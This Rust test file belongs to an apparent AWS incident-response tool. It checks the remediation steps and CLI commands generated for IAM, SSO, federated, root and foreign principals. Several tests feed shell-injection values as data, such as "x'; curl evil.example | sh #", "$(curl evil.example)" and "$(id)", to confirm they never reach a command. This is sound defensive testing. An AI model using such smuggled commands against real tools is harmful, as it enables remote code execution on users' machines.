//! What people are told to do by hand, for each kind of principal: the steps and the commands they would copy.
//! Never here: the sentences; the snapshots of messages have those.

use vouch::case::CaseId;
use vouch::case::evidence::{Chain, ChainEnd, Evidence, Hop};
use vouch::case::finding::{Finding, Resource};
use vouch::case::guidance::{Advised, Blank, Known, Step, steps};
use vouch::case::principal::{AccessKeyId, AccountId, Partition, Principal, PrincipalKind};

fn finding(kind: PrincipalKind, name: &str, session: Option<&str>) -> Finding {
    let bare =
        crate::findings::bare("UnauthorizedAccess:IAMUser/MaliciousIPCaller", "111122223333", "eu-central-1");
    let principal = Principal {
        kind,
        partition: Partition::Commercial,
        account: Some(bare.account.clone()),
        name: name.to_owned(),
        session: session.map(str::to_owned),
        unique_id: None,
        access_key: AccessKeyId::parse("ASIAIOSFODNN7EXAMPLE"),
    };
    Finding { principal, ..bare }
}

fn bucket(name: &str) -> Resource {
    let arn = format!("arn:aws:s3:::{name}");
    serde_json::from_value(serde_json::json!({ "type": "bucket", "name": name, "arn": arn })).unwrap()
}

/// Where what only the settings tell is told.
fn known() -> Known {
    Known {
        quarantine_policy: "arn:{partition}:iam::{account}:policy/ours/DenyAll".to_owned(),
        identity_store: "d-1234567890".to_owned(),
        identity_store_region: "eu-west-1".to_owned(),
    }
}

fn at(arn: &str) -> Evidence {
    Evidence { arn: Some(arn.to_owned()), ..Evidence::default() }
}

/// The session was issued by this call, and there the chain ends.
fn issued(event: &str, end: ChainEnd) -> Evidence {
    let at = "2026-01-01T00:00:00Z".parse().unwrap();
    let hop = Hop { at, event: event.to_owned(), by: String::new(), key: None, source_identity: None };
    Evidence { chain: Some(Chain { hops: vec![hop], end }), ..Evidence::default() }
}

fn advice(finding: &Finding, evidence: Option<&Evidence>, known: &Known) -> Vec<Step> {
    steps(&CaseId::parse("c0ffee0000000001").unwrap(), finding, evidence, known)
}

fn told(finding: &Finding, arn: Option<&str>) -> Vec<(Advised, Option<String>)> {
    let evidence = arn.map(at);
    let steps = advice(finding, evidence.as_ref(), &known());
    steps.into_iter().map(|step| (step.what, step.command)).collect()
}

/// What denies a federated session everything.
fn denial(evidence: Option<&Evidence>, known: &Known) -> Step {
    let steps = advice(&finding(PrincipalKind::FederatedUser, "partner", None), evidence, known);
    steps.into_iter().find(|step| step.what == Advised::FederatedDeny).unwrap()
}

fn written(steps: &[Step]) -> String {
    let mut text = String::new();
    for step in steps {
        text.push_str(&format!("  {:?}\n", step.what));
        text.extend(step.command.as_ref().map(|command| format!("    {command}\n")));
        text.extend(step.blanks.iter().map(|blank| format!("    {} is to be filled in\n", blank.word())));
    }
    text
}

fn whats(finding: &Finding, arn: Option<&str>) -> Vec<Advised> {
    told(finding, arn).into_iter().map(|(what, _)| what).collect()
}

/// One of each kind of principal, with what it was done to where that is told apart.
fn principals() -> Vec<Finding> {
    let sso = "AWSReservedSSO_PowerUser_0123456789abcdef";
    let mut foreign = finding(PrincipalKind::Account, "", None);
    foreign.principal.account = AccountId::parse("999988887777");
    let mut anonymous = finding(PrincipalKind::Anonymous, "ANONYMOUS_PRINCIPAL", None);
    anonymous.principal.account = None;
    for finding in [&mut foreign, &mut anonymous] {
        finding.resource = Some(bucket("photos.example"));
    }
    let mut instance = finding(PrincipalKind::None, "", None);
    let (id, arn) = ("i-0123456789abcdef0".to_owned(), "arn:aws:ec2:x".to_owned());
    instance.resource = Some(Resource::Instance { id, arn });
    vec![
        finding(PrincipalKind::IamUser, "alice", None),
        finding(PrincipalKind::RoleSession, "deploy", Some("build-7")),
        finding(PrincipalKind::InstanceRole, "web", Some("i-0123456789abcdef0")),
        finding(PrincipalKind::SsoUser, sso, Some("ana@example.com")),
        finding(PrincipalKind::ServiceLinkedRole, "AWSServiceRoleForSupport", Some("x")),
        finding(PrincipalKind::FederatedUser, "partner", None),
        finding(PrincipalKind::Root, "Root", None),
        foreign,
        anonymous,
        finding(PrincipalKind::Actors, "a, b", None),
        instance,
    ]
}

/// Of types that nothing is written for, and what is said of each.
const FAMILIES: [(&str, Advised); 9] = [
    ("Execution:Runtime/NewBinaryExecuted", Advised::Runtime),
    ("Policy:Kubernetes/AnonymousAccessGranted", Advised::Kubernetes),
    ("CredentialAccess:RDS/AnomalousBehavior.FailedLogin", Advised::Database),
    ("Backdoor:Lambda/C&CActivity.B", Advised::Function),
    ("Execution:ECS/MaliciousFile", Advised::Container),
    ("Execution:Container/SuspiciousFile", Advised::Container),
    ("Object:S3/MaliciousFile", Advised::Malware),
    ("Execution:EC2/MaliciousFile", Advised::Malware),
    ("Newly:Invented/Type", Advised::UnknownType),
];

fn of_family(kind: &str) -> Finding {
    Finding { kind: kind.to_owned(), ..finding(PrincipalKind::None, "", None) }
}

/// By a user's own key, which does not end by itself.
fn long_term() -> Finding {
    let mut finding = finding(PrincipalKind::IamUser, "alice", None);
    finding.principal.access_key = AccessKeyId::parse("AKIAIOSFODNN7EXAMPLE");
    finding
}

/// Every finding of the tests here, for whoever asks what is ever told.
pub(crate) fn findings() -> Vec<Finding> {
    let families = FAMILIES.iter().map(|(kind, _)| of_family(kind));
    principals().into_iter().chain([long_term()]).chain(families).collect()
}

pub(crate) fn whats_of(finding: &Finding) -> Vec<Advised> {
    whats(finding, None)
}

#[test]
fn each_kind_of_principal_gets_its_steps_with_this_cases_values() {
    let mut text = String::new();
    for finding in principals() {
        text.push_str(&format!("{}\n", finding.principal.kind.as_str()));
        text.push_str(&written(&advice(&finding, None, &known())));
    }
    insta::assert_snapshot!(text);
}

/// The same two with everything known, and with nothing.
#[test]
fn a_command_is_ready_to_run_where_everything_is_known_and_says_what_is_missing_where_not() {
    let sso =
        finding(PrincipalKind::SsoUser, "AWSReservedSSO_Power_0123456789abcdef", Some("ana@example.com"));
    let partner = finding(PrincipalKind::FederatedUser, "partner", None);
    let by = issued(
        "GetFederationToken",
        ChainEnd::User { arn: "arn:aws:iam::111122223333:user/apps/broker".into() },
    );
    let mut nobody = finding(PrincipalKind::SsoUser, "a b", Some("c d"));
    nobody.principal.access_key = None;
    let mut text = String::new();
    for (title, finding, evidence, known) in [
        ("known", &sso, None, &known()),
        ("known", &partner, Some(&by), &known()),
        ("unknown", &nobody, None, &Known::default()),
        ("unknown", &partner, None, &Known::default()),
    ] {
        text.push_str(&format!("{title}: {}\n", finding.principal.kind.as_str()));
        text.push_str(&written(&advice(finding, evidence, known)));
    }
    insta::assert_snapshot!(text);
}

/// Only CloudTrail says who issued a session, and only of a call that issues such sessions.
#[test]
fn an_issuer_is_named_only_where_the_chain_leads_to_a_user_of_that_account() {
    let user = |arn: &str| ChainEnd::User { arn: arn.to_owned() };
    let bob = || user("arn:aws:iam::111122223333:user/bob");
    let command = |evidence: &Evidence| denial(Some(evidence), &known()).command.unwrap_or_default();
    let named = issued("GetFederationToken", bob());
    assert!(
        command(&named).starts_with("aws iam attach-user-policy --user-name bob --policy-arn arn:aws:iam::")
    );
    for evidence in [
        issued("GetSessionToken", bob()),
        issued("GetFederationToken", user("arn:aws:iam::999988887777:user/bob")),
        issued("GetFederationToken", user("arn:aws-cn:iam::111122223333:user/bob")),
        issued("GetFederationToken", user("arn:aws:iam::111122223333:user/$(id)")),
        issued("GetFederationToken", user("arn:aws:iam::111122223333:user/-bob")),
        issued("GetFederationToken", user("arn:aws:iam::111122223333:user/")),
        issued("GetFederationToken", ChainEnd::NotFound { yet: true }),
        Evidence::default(),
    ] {
        let step = denial(Some(&evidence), &known());
        assert!(step.command.unwrap().contains("--user-name ISSUING_USER "), "{evidence:?}");
        assert_eq!(step.blanks, [Blank::Issuer]);
    }
    // No policy binds root.
    let root = denial(Some(&issued("GetFederationToken", ChainEnd::Root { account: None })), &known());
    assert_eq!((root.command, root.blanks), (None, vec![]));
}

/// Settings are the operator's, and a slip in one must not become part of somebody's shell either.
#[test]
fn a_setting_that_a_shell_would_read_is_left_out() {
    let evil = Known {
        quarantine_policy: "arn:{partition}:iam::{account}:policy/x; id".to_owned(),
        identity_store: "d-1; id".to_owned(),
        identity_store_region: "eu-west-1 $(id)".to_owned(),
    };
    let step = denial(None, &evil);
    assert_eq!(step.blanks, [Blank::Issuer, Blank::Quarantine], "{:?}", step.command);
    for step in advice(&finding(PrincipalKind::SsoUser, "AWSReservedSSO_A_0", Some("ana")), None, &evil) {
        assert!(!step.command.unwrap_or_default().contains("id)"), "{:?}", step.what);
    }
}

/// The settings reach a case when it opens, each in its place.
#[test]
fn a_case_opens_with_what_the_settings_know() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("a.toml");
    let text = r#"
[queue]
url = "https://sqs.eu-central-1.amazonaws.com/111122223333/vouch"
[slack]
security_channel = "C0SECURITY"
responders = ["U0RESPOND1"]
[aws]
quarantine_policy = "arn:{partition}:iam::{account}:policy/ours/DenyAll"
[owners]
identity_store_id = "d-1234567890"
identity_store_region = "eu-west-1"
"#;
    std::fs::write(&file, text).unwrap();
    let tokens = [("VOUCH__SLACK__BOT_TOKEN", "xoxb-test"), ("VOUCH__SLACK__APP_TOKEN", "xapp-test")];
    let tokens = tokens.map(|(key, value)| (key.to_owned(), value.to_owned()));
    let settings = vouch::config::load(&[file], tokens.into_iter()).unwrap();
    let live = vouch::engine::Live::new(settings, None, None);
    let terms = live.terms(&finding(PrincipalKind::FederatedUser, "partner", None));
    assert_eq!(terms.known, known());
    // One that was kept before there was such a thing knows nothing, and still reads.
    let mut kept = serde_json::to_value(&terms).unwrap();
    kept.as_object_mut().unwrap().remove("known").unwrap();
    let kept: vouch::case::state::Terms = serde_json::from_value(kept).unwrap();
    assert_eq!(kept.known, Known::default());
}

/// Older notes have steps that do not say what is to be filled in.
#[test]
fn a_step_that_was_kept_before_still_reads() {
    let step: Step =
        serde_json::from_value(serde_json::json!({ "what": "ask-user", "command": null })).unwrap();
    assert_eq!(step, Step::new(Advised::AskUser, None));
}

#[test]
fn a_long_term_key_is_replaced_by_a_new_one() {
    let all = told(&long_term(), None);
    let whats: Vec<Advised> = all.iter().map(|(what, _)| *what).collect();
    assert_eq!(
        whats,
        [
            Advised::AskUser,
            Advised::LookUpCalls,
            Advised::CheckPermissions,
            Advised::RotateKey,
            Advised::AccountArticle
        ]
    );
    assert_eq!(all[3].1.as_deref(), Some("aws iam create-access-key --user-name alice"));
    let looked_up = all[1].1.as_deref().unwrap();
    assert!(
        looked_up.ends_with("AttributeKey=AccessKeyId,AttributeValue=AKIAIOSFODNN7EXAMPLE"),
        "{looked_up}"
    );
}

#[test]
fn a_roles_path_decides_and_not_its_name() {
    let plain = finding(PrincipalKind::RoleSession, "ops", Some("ana"));
    let reserved = "arn:aws:iam::111122223333:role/aws-reserved/sso.amazonaws.com/ops";
    assert_eq!(whats(&plain, Some(reserved))[0], Advised::SsoUserId);
    let linked = "arn:aws:iam::111122223333:role/aws-service-role/x.amazonaws.com/ops";
    assert_eq!(whats(&plain, Some(linked))[0], Advised::ServiceNoRevoke);
    let imitated = finding(PrincipalKind::SsoUser, "AWSReservedSSO_Admin_0123", Some("ana"));
    let own = "arn:aws:iam::111122223333:role/AWSReservedSSO_Admin_0123";
    assert_eq!(whats(&imitated, Some(own))[0], Advised::TraceKey);
}

/// Whoever copies a command runs it: what an attacker could choose is never in it unless it is only a name.
#[test]
fn a_name_that_a_shell_would_read_is_left_out() {
    let name = "x'; curl evil.example | sh #";
    for kind in
        [PrincipalKind::IamUser, PrincipalKind::SsoUser, PrincipalKind::FederatedUser, PrincipalKind::Root]
    {
        let mut evil = finding(kind, name, Some("$(curl evil.example)"));
        evil.resource = Some(bucket("`id`"));
        for (what, command) in told(&evil, Some("arn:aws:iam::1:role/$(id)")) {
            let command = command.unwrap_or_default();
            assert!(!command.contains("evil") && !command.contains("$("), "{what:?}: {command}");
        }
    }
}

/// A policy that would lock our own account out is never proposed, whatever a finding lacks.
#[test]
fn a_foreign_account_is_never_our_own() {
    let mut unknown = finding(PrincipalKind::Account, "", None);
    for account in [None, AccountId::parse("111122223333")] {
        unknown.principal.account = account;
        let all = told(&unknown, None);
        let (_, policy) = all.iter().find(|(what, _)| *what == Advised::AccountDeny).unwrap();
        assert!(policy.as_ref().unwrap().contains("arn:aws:iam::THEIR_ACCOUNT:root"), "{policy:?}");
    }
}

#[test]
fn families_that_nothing_is_written_for_are_explained() {
    for (kind, advised) in FAMILIES {
        let mut about = of_family(kind);
        assert_eq!(whats(&about, None), [advised], "{kind}");
        // Their part in IAM comes with it.
        about.principal = finding(PrincipalKind::RoleSession, "task", Some("s")).principal;
        if advised != Advised::UnknownType {
            assert!(whats(&about, None).contains(&Advised::RoleTrust), "{kind}");
        }
    }
}
